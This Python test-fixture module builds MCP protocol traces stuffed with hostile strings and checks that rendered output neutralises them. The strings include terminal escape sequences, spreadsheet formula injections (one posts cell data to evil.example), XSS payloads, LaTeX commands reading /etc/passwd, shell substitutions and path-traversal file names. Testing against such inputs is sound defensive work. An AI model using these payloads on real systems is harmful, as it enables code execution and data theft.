"""Texts that mean harm, in every place of a trace that a peer chooses; and what may stand in an output all the same.

``TEXTS`` are the texts, ``lines(text, era)`` a trace full of one, ``write(folder)`` traces of all of them, one file an
era, ``alone(folder, name)`` a file of one. ``terminal``, ``cells``, ``page``, ``picture``, ``marked`` look at an output and return what is active in it: [].
"""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Final
from xml.etree import ElementTree

AWAY: Final = "evil.example"
"""The host of every address in these texts: a request for it is one that a trace has caused."""

TEXTS: Final[dict[str, str]] = {
    # terminals
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m\x07\x08\x7f",
    "osc": f"\x1b]0;title\x07\x1b]8;;https://{AWAY}/\x1b\\link\x1b]8;;\x1b\\\x1b]52;c;ZWNobw==\x07",
    "c1": "\x9b31mred\x9d0;title\x9c\x90q\x9c\x84\x85forged line",
    "lines": "one\r\nforged line\n\rforged line\u2028forged line\u2029forged line\x0bforged line\x0cforged line",
    # spreadsheets
    "formula": f'=HYPERLINK("https://{AWAY}/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide": "＝1+1",
    "invisible": "\u200b=1+1",
    "quoted": '",=1+1,"\n=1+1;=1+1',
    # pages
    "script": "\"'><script>document.title='harm';alert(1)</script>",
    "image": f"<img src=https://{AWAY}/p.png onerror=alert(1)>",
    "svg": f"<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><image href='https://{AWAY}/i'/></svg>",
    "attribute": "\" onmouseover=\"alert(1)\" style=\"background:url(https://evil.example/b)\" x='",
    "closing": "</style></title></textarea></pre></code></td></table></div>--></script><script>alert(1)</script>",
    "frame": f"<iframe src='https://{AWAY}/'></iframe><base href='https://{AWAY}/'><meta http-equiv=refresh content='0'>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#x1b;&colon;",
    "address": f"javascript:alert(1) https://{AWAY}/autolink www.{AWAY}",
    # mathematics and LaTeX
    "math": r"$x_1$ $$\href{javascript:alert(1)}{y}$$ \(\style{color:red}{z}\) \[\unicode{x41}\]",
    "mathtext": r"$\frac{1}{$ \$ $\notacommand$",
    "environment": r"\begin{equation}\require{html}x\end{equation}",
    "tex": r"\input{/etc/passwd}\write18{id}\immediate\openout1=x ^^5cinput %#_&~^{}}{\end{tabular}",
    # markdown
    "markdown": f"[x](javascript:alert(1)) ![x](https://{AWAY}/m.png) <https://{AWAY}/> **b** _i_ ~~s~~ `c`",
    "heading": "# heading\n\n```\n---\n- [ ] item\n1. one\n> quoted\n| a | b |\n<!-- ",
    "reference": f"[x][y]\n\n[y]: https://{AWAY}/r 'title' | [^1] \\| \\",
    # diagrams, templates, markup of terminals and templates
    "mermaid": 'x;%%{init: {"securityLevel":"loose"}}%%\nclick C href "javascript:alert(1)"\nend #quot; #59; %% y',
    "template": "{{7*7}} {% raw %} ${HOME} $(id) `id` %s %(x)s {0} {x!r}",
    "rich": f"[bold red]b[/bold red] [link=https://{AWAY}/]l[/link] [/]",
    # text itself
    "bidi": "user\u202egpj.exe\u202c \u2066\u2067\u2068\u2069 \u200e\u200f \u061c \u202a\u202b\u202d",
    "zero": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh\u3164i\u115fj\ufff9k\U000e0041l",
    "combining": "a" + "\u0301\u0489" * 200,
    "surrogate": "\ud83d lone \udc00",
    "nul": "nul\x00byte \x1c\x1d\x1e\x1f",
    "xml": "]]>&xxe; \ufffe\uffff <?pi ?> <!DOCTYPE x>",
    "long": "y" * 20_000,
    "words": "word " * 4_000,
    # names that become names of files
    "path": "../../../outside/x",
    "windows": "..\\..\\C:\\CON:stream",
    "reserved": "NUL.txt. ",
    "option": "-rf --output=x ~/.profile",
    "dots": "..",
    "empty": "",
    "space": " \u00a0\u3000 ",
}  # fmt: skip

LONG: Final = ("long", "words", "combining")
"""Their names."""

FEW: Final = "ansi c1 lines formula script attribute math tex markdown mermaid bidi surrogate nul path empty".split()
"""Names of some of them, where all would take long."""

ERAS: Final = ("stdio", "http", "modern")
_META: Final = "io.modelcontextprotocol/"


def lines(text: str, era: str = "stdio", *, conn: str | None = None, first: int = 0) -> list[dict[str, Any]]:
    """Events of one connection, ``text`` in every place that a peer chooses."""
    conn = text if conn is None else conn
    peer = {"name": text, "version": text, "title": text, "websiteUrl": text, "description": text}
    more = {text: {text: text}, "sub\0" + text: [text]}
    client = {
        "roots": {"listChanged": text},
        "elicitation": {text: {}},
        "experimental": more,
        "extensions": more,
        text: text,
    }
    server = {
        "tools": {"listChanged": text},
        "experimental": more,
        "logging": text,
        "extensions": more,
        text: {text: {}},
    }
    meta = {f"{_META}protocolVersion": "2026-07-28", f"{_META}clientInfo": peer, f"{_META}clientCapabilities": client}
    if era == "modern":
        opening = [
            ("c2s", {"id": text, "method": "server/discover", "params": {"_meta": meta}}),
            ("s2c", {"id": text, "result": {"resultType": "complete", "supportedVersions": ["2026-07-28", text],
                "capabilities": server, "serverInfo": peer, "instructions": text, "_meta": {f"{_META}serverInfo": peer}}}),
        ]  # fmt: skip
    else:
        opening = [
            ("c2s", {"id": text, "method": "initialize",
                "params": {"protocolVersion": "2025-11-25", "capabilities": client, "clientInfo": peer}}),
            ("s2c", {"id": text, "result": {
                "protocolVersion": "2025-11-25", "capabilities": server, "serverInfo": peer, "instructions": text}}),
            ("c2s", {"method": "notifications/initialized"}),
        ]  # fmt: skip
    extra = {"_meta": meta} if era == "modern" else {}
    tool = {
        "name": text,
        "title": text,
        "description": text,
        "inputSchema": {"type": "object", "properties": {text: {"type": text}}},
    }
    said = [
        *opening,
        ("c2s", {"id": 1, "method": "tools/list", "params": extra}),
        ("s2c", {"id": 1, "result": {"tools": [tool], "nextCursor": text}}),
        ("c2s", {"id": 2, "method": "tools/call", "params": {"name": text, "arguments": {text: text}, **extra}}),
        ("s2c", {"id": 2, "error": {"code": -32000, "message": text, "data": {text: text}}}),
        ("c2s", {"id": [text], "method": text, "params": {text: text}}),
        ("s2c", {"id": {text: text}, "result": {text: text}}),
        ("s2c", {"id": text, "error": text}),
        ("s2c", {"id": 9, "method": "elicitation/create", "params": {"mode": text, "message": text, "url": text}}),
        ("c2s", {"id": 9, "error": {"code": -32602, "message": text}}),
        ("s2c", {"id": 10, "method": "roots/list"}),
        ("c2s", {"id": 10, "result": {"roots": [{"uri": text, "name": text}]}}),
        ("s2c", {"method": "notifications/message", "params": {"level": text, "logger": text, "data": text}}),
        ("s2c", {"method": f"notifications/{text}", "params": {"progressToken": text}}),
        ("c2s", {"id": 11, "method": "resources/read", "params": {"uri": text, **extra}}),
    ]  # fmt: skip
    headers = {"mcp-session-id": text, "user-agent": text, "content-type": text, "mcp-protocol-version": text, "mcp-method": text,
        "mcp-name": text, "origin": text, "accept": text, "last-event-id": text, text: text}  # fmt: skip
    events: list[dict[str, Any]] = [
        {"kind": "open", "label": text, "mode": text, "client": {"name": text, "version": text}}
    ]
    for at, (way, body) in enumerate(said):
        one: dict[str, Any] = {"kind": "message", "dir": way, "msg": {"jsonrpc": "2.0", **body}}
        if era != "stdio":
            asked = way == "c2s"
            more_http = {"method": "POST", "path": f"/{text}"} if asked else {"status": 200}
            one["http"] = {**more_http, "headers": headers, "exchange": f"x{at if asked else at - 1}{text}"}
            if not asked:
                one["sse"] = {"id": text, "event": text, "comment": text}
        events.append(one)
    events += [
        {"kind": "stderr", "dir": "s2c", "raw": text},
        {"kind": "unparsed", "dir": "s2c", "raw": text},
        {"kind": "message", "dir": "c2s", "msg": text},
        {"kind": text, "raw": text},
        {"kind": "close", "reason": text, "by": text, "exit_code": 1},
    ]
    if era != "stdio":
        gone = {"status": 404, "headers": headers, "exchange": text, "body": False}
        events += [
            {
                "kind": "http",
                "dir": "c2s",
                "http": {"method": text, "path": text, "headers": headers, "exchange": text},
            },
            {"kind": "http", "dir": "s2c", "http": gone, "raw": text},
            {"kind": "sse", "dir": "s2c", "sse": {"id": text, "event": text, "comment": text, "data": text}},
        ]
    return [
        {**one, "seq": seq, "ts": f"2026-01-01T00:{seq // 60 % 60:02}:{seq % 60:02}.000000Z", "conn": conn}
        for seq, one in enumerate(events, first)
    ]


def header(text: str, era: str = "stdio") -> dict[str, Any]:
    """The header of such a trace."""
    peer = {"name": text, "version": text}
    return {
        "kind": "header", "format": "mcplab-trace", "version": 1, "tool": text, "client": peer, "server": peer,
        "transport": "stdio" if era == "stdio" else "streamable-http", "config": {text: text, "command": text}, "label": text,
        "server_mode": text, "mode": text, text: text,
    }  # fmt: skip


def write(folder: Path) -> list[Path]:
    """A file an era, with a connection for each of ``FEW``."""
    folder.mkdir(parents=True, exist_ok=True)
    return [_many(folder / f"{era}.jsonl", FEW, era) for era in ERAS]


def every(folder: Path) -> Path:
    """A file with a connection for each text, but the long ones."""
    return _many(folder / "every.jsonl", [name for name in TEXTS if name not in LONG], "http")


def _many(file: Path, names: list[str], era: str) -> Path:
    events: list[dict[str, Any]] = []
    for name in names:
        events += lines(TEXTS[name], era, conn=f"{name} {TEXTS[name]}", first=len(events))
    return dump(file, [header(TEXTS["script"], era), *events])


def alone(folder: Path, name: str, era: str = "stdio") -> Path:
    """A file with one text in all places, the header too."""
    folder.mkdir(parents=True, exist_ok=True)
    return dump(folder / f"{era}-{name}.jsonl", [header(TEXTS[name], era), *lines(TEXTS[name], era)])


def dump(file: Path, rows: list[dict[str, Any]]) -> Path:
    file.write_text("".join(f"{json.dumps(row)}\n" for row in rows), encoding="ascii")
    return file


def file_name(text: str) -> str:
    """The text as the name of a file, as near as the system takes it."""
    name = re.sub("[\0/\ud800-\udfff]", "_", text).encode()[:180].decode(errors="ignore")
    return f"{name if name not in ('', '.', '..') else '_' + name}.jsonl"


# What may not be in an output: each says what it found ----------------------------------------------------------

UNSEEN: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\ufff9-\ufffb\ufffe\uffff\ud800-\udfff\U000e0000-\U000e007f]"
)
FORMULA: Final = tuple("=+-@\t\r＝＋－＠")
_NUMBER: Final = re.compile(r"[-+]?[0-9.]+(e[-+]?[0-9]+)?")


def terminal(text: str, *, colour: bool = False, forged: bool = True) -> list[str]:
    """Characters that a terminal or an editor would act on instead of showing, and lines that a trace has forged."""
    if colour:
        text = re.sub(r"\x1b\[[0-9;]*m", "", text)
    found = [repr(text[max(0, m.start() - 20) : m.end() + 20]) for m in UNSEEN.finditer(text)]
    return found + [line for line in text.splitlines() if forged and line.startswith(("forged line", "=1+1"))]


def cells(text: str) -> list[str]:
    """Cells of a csv that a spreadsheet would compute."""
    rows = csv.reader(io.StringIO(text, newline=""))
    found = [cell for row in rows for cell in row if cell.startswith(FORMULA) and not _NUMBER.fullmatch(cell)]
    return found + terminal(text.replace("\r", ""), forged=False)


class _Page(HTMLParser):
    """Elements and attributes that load, run, link away, or are typeset."""

    ACTIVE: Final = frozenset(
        "script iframe frame object embed base form input button textarea select link audio video source track applet math".split()
    )
    OWN: Final = re.compile(
        r"https://(modelcontextprotocol\.io|github\.com/modelcontextprotocol)/|[\w./%#-]*$|data:image/(png|svg\+xml);base64,"
    )

    def __init__(self, own: tuple[str, ...]) -> None:
        super().__init__()
        self.own = own
        self.found: list[str] = []
        self.ignoring: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in self.ACTIVE:
            self.found.append(f"<{tag}>")
        for name, value in given.items():
            if name.startswith("on") and value not in self.own:
                self.found.append(f"{name}={value[:60]}")
            if name in ("href", "src", "action", "formaction", "srcset", "xlink:href") and not self.OWN.match(value):
                self.found.append(f"{name}={value[:60]}")
            if name == "style" and re.search(r"url|expression|@import|[<>]", value):
                self.found.append(f"style={value[:60]}")
        if tag not in ("br", "wbr", "img", "meta", "hr", "col", "link", "input"):
            self.open.append("ignored" if "mathjax_ignore" in given.get("class", "") else tag)

    def handle_endtag(self, tag: str) -> None:
        if self.open:
            self.open.pop()

    def handle_data(self, data: str) -> None:
        if self.open[-1:] == ["style"]:
            if AWAY in data:
                self.found.append(f"a style sheet with {data[:60]}")
        elif not {"ignored", "code", "pre"} & set(self.open) and MATH.search(data):
            self.found.append(f"typeset: {data[:60]}")
        self.found += terminal(data, forged=False)


MATH: Final = re.compile(r"\$[^$]+\$|\\\(.+\\\)|\\\[.+\\\]|\\begin\{", re.DOTALL)
"""What MathJax typesets in a notebook, outside of code and of elements that tell it to ignore them."""


def page(text: str, *, typeset: bool = True, own: tuple[str, ...] = ()) -> list[str]:
    """What HTML would run, load, link to or typeset. ``typeset`` False: no page with MathJax. ``own``: handlers of ours."""
    seen = _Page(own)
    seen.feed(text)
    seen.close()
    return [one for one in seen.found if typeset or not one.startswith("typeset")]


def marked(text: str) -> list[str]:
    """What GitHub's Markdown makes of it that is no table of text: raw HTML, pictures, headings, links that hide where.

    An address that shows itself is made a link by GitHub, here as in any text.
    """
    import mistune

    text = "".join(text.splitlines(keepends=True)[:400])
    made = str(
        mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "footnotes", "task_lists"])(text)
    )
    inside = re.sub(r"</?(table|thead|tbody|tr|t[hd]( style=\"text-align:right\")?|p|span|br ?/?)>", "", made)
    return re.findall(r"<[a-z/!?][^>]*", inside) + page(made) + terminal(text)


def picture(svg: bytes) -> list[str]:
    """What an SVG would run, load or link to; and that it is XML."""
    root = ElementTree.fromstring(svg)
    found = []
    for element in root.iter():
        tag = element.tag.rpartition("}")[2].lower()
        if tag in ("script", "foreignobject", "a", "iframe", "animate", "set", "handler", "audio", "video", "image"):
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            plain = name.rpartition("}")[2].lower()
            if plain == "id" and not re.fullmatch(r"[^\s\"'<>&\\]*", value):
                found.append(f"id={value[:60]!r}")
            if plain.startswith("on") or (plain == "href" and not value.startswith("#")):
                found.append(f"{plain}={value[:60]}")
            if plain != "id" and (AWAY in value or "javascript:" in value):
                found.append(f"{plain}={value[:60]}")
        found += terminal(element.text or "")
    return found


def xml(text: str) -> list[str]:
    """Is it XML, without entities of its own, and without what a terminal acts on?"""
    ElementTree.fromstring(text.encode())
    return terminal(text) + re.findall("<!(?:DOCTYPE|ENTITY)|<\\?(?!xml )", text)


def latex(text: str, own: str = "") -> list[str]:
    """Commands that are not those of a table of escaped text (``own``: more), and characters that mean something."""
    allowed = (
        r"\\(begin|end)\{(tabular|table|longtable|tabularx?|minipage|center|fontsize)\*?\}|\\(hline|\\|[{}&%$#_])"
        r"|\\text(backslash|asciitilde|asciicircum|quotedbl|less|greater|bar)\{\}"
    )
    rest = re.sub(allowed, " ", text)
    found = re.findall(r"\\[a-zA-Z@]+|\\.|\$|#|%|\^\^", rest)
    return [one for one in found if one[1:] not in own.split()] + terminal(text)


def diagram(text: str) -> list[str]:
    """Lines of Mermaid that are none of a sequence diagram's, and characters that begin a command or a directive."""
    head, *rest = text.splitlines()
    found = [] if head == "sequenceDiagram" else [head]
    for line in rest:
        known = re.fullmatch(
            r"    (participant [CS] as (client|server)|[CS]-{1,2}(>>|x)[CS]: (.*)|Note over C,S: (.*))", line
        )
        said = (known[4] or known[5] or "") if known else "%"
        if re.search("[#;<>%$]", re.sub(r"#\d+;", "", said)):
            found.append(line)
    return found + terminal(text)
